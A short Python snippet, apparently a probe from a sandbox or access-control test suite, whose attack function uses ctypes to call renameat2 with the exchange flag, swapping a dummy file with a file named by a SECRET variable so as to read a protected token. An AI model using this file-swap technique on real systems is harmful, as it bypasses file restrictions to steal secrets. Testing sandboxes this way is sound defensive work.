"""Exchange two files by renameat2. Success: the token, or changed bytes."""

import ctypes


def attack():
    open("mine", "w").write("x")
    ctypes.CDLL(None).renameat2(-100, b"mine", -100, SECRET.encode(), 2)
    return open("mine").read()
